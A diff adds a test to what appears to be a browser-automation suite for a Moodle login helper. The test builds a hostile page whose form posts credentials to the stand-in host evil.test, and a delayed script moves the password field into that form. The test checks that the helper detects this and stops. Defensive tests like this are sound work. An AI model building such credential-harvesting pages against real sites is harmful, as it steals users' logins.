@@ -243,6 +243,18 @@ def test_a_password_field_that_loses_its_text(show: Show) -> None:
         LoginPage(show(LOGIN % "oninput=\"this.value = ''\"", LoginPage.path), MOODLE).log_in("ann", "secret-of-ann")
 
 
+def test_a_password_field_that_is_rendered_anew_belongs_to_its_form_in_the_end(show: Show) -> None:
+    late = """<script>/* core/togglesensitive */ setTimeout(() => {
+        document.forms[0].append(document.querySelector("#password"));
+        document.forms[0].insertAdjacentHTML("beforeend", "<button type=button class=toggle-sensitive-btn>");
+    }, 300)</script>"""
+    page = (
+        f"{IDLE}<input id=password type=password><form method=post action=https://evil.test/><input id=username></form>"
+    )
+    with says("seen it post to https://evil.test/"):
+        LoginPage(show(page + late, LoginPage.path), MOODLE).log_in("ann", "secret-of-ann")
+
+
 # -- the player -----------------------------------------------------------------------------------
 
 Playing = Callable[[str], Player]
